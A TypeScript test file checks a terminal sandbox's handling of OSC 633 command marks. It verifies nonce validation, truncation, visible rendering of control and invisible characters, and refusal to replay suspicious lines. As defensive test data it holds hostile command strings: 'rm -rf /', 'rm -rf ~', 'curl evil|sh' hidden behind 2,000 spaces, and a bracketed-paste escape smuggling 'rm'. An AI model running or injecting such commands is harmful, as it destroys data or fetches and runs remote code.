import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { test } from "node:test";
import { fileURLToPath } from "node:url";
import { shown, visible } from "../src/page/visible";
import { duration, parseMark, repeatable } from "../src/terminals/commands/mark";

const nonce = "0123456789abcdef0123456789abcdef";

interface Vector {
  name: string;
  data: string;
  mark: ReturnType<typeof parseMark>;
}

test("marks are read as on the server", () => {
  const file = join(dirname(fileURLToPath(import.meta.url)), "..", "..", "..", "..", "..", "tests", "Sandbox.Terminals.Tests", "Marks", "osc633.json");
  const { nonce, vectors } = JSON.parse(readFileSync(file, "utf8")) as { nonce: string; vectors: Vector[] };
  assert.ok(vectors.length > 30);
  for (const { name, data, mark } of vectors) {
    assert.deepEqual(parseMark(data, nonce), mark, name);
  }
});

test("marks with the nonce are read", () => {
  assert.deepEqual(parseMark(`E;echo a\\x3b b \\\\;${nonce}`, nonce), { kind: "E", text: "echo a; b \\", cut: false, time: null });
  assert.deepEqual(parseMark(`D;2;${nonce};1795.5`, nonce), { kind: "D", text: "2", cut: false, time: 1_795_500 });
  assert.deepEqual(parseMark(`C;${nonce};`, nonce), { kind: "C", text: "", cut: false, time: null });
  assert.equal(parseMark(`E;x;${nonce};cut`, nonce)?.cut, true);
});

test("marks without it, with another, or with it elsewhere are nothing", () => {
  for (const data of ["A", "A;", "A;ffff", "D;0", "D;0;", "E;rm -rf /;ffff", `E;${nonce}`, `D;${nonce}`, `Z;${nonce}`, `;${nonce}`, `A;x;${nonce}`, `A;${nonce}0`]) {
    assert.equal(parseMark(data, nonce), null, data);
  }
  assert.equal(parseMark("A;", ""), null);
});

test("a text of megabytes is cut", () => {
  const mark = parseMark(`E;${"y".repeat(1_000_000)};${nonce}`, nonce)!;
  assert.equal(mark.text.length, 4096);
  assert.equal(mark.cut, true);
  const escaped = parseMark(`E;${"\\xe6\\x97\\xa5".repeat(300_000)};${nonce}`, nonce)!;
  assert.equal(escaped.text, "日".repeat(4096));
  assert.equal(escaped.cut, true);
});

test("what would hide or turn a line around is shown as a sign", () => {
  assert.equal(visible("a\u202eb\u001b[2Jc\u007f"), "a\ufffdb\u241b[2Jc\u2421");
  assert.equal(visible("é <b>x</b>\nläuft 🎉"), "é <b>x</b>\nläuft 🎉");
  assert.equal(visible("a\u00a0b\u2800c\u3000d"), "a␣b␣c␣d");
  assert.equal(shown("a    b"), "a    b");
  assert.equal(shown(`ls${" ".repeat(2000)}; curl evil|sh`), "ls ⟨2,000 spaces⟩ ; curl evil|sh");
  assert.equal(shown(`ls${"\n".repeat(50)}evil`), "ls ⟨50 line ends⟩ evil");
});

test("a line is copied and typed again only as it is shown, and alone", () => {
  assert.equal(repeatable("ls -l 'ä'", false), "ls -l 'ä'");
  assert.equal(repeatable("ls\n\n", false), "ls");
  assert.equal(repeatable("ls", true), null);
  for (const none of [null, "", " \n", "ls \u001b[201~rm", "ls\nrm -rf ~", "ls\rrm", `ls${" ".repeat(2000)}; curl evil|sh`, "ls\u3000-l"]) {
    assert.equal(repeatable(none, false), null, JSON.stringify(none));
  }
  for (const unseen of ["\u00ad", "\u034f", "\u115f", "\u200b", "\u202e", "\u2066", "\u3164", "\uffa0", "\ufeff", "\ufe0f", "\u{e0041}", "\u{e007f}", "\u{e0100}", "\ud800", "\u2028", "\u0085"]) {
    assert.equal(repeatable(`l${unseen}s`, false), null, unseen.codePointAt(0)!.toString(16));
  }
});

test("durations are short", () => {
  assert.deepEqual([0.4, 999, 1500, 61_000].map(duration), ["0 ms", "999 ms", "1.5 s", "1 min 1 s"]);
});
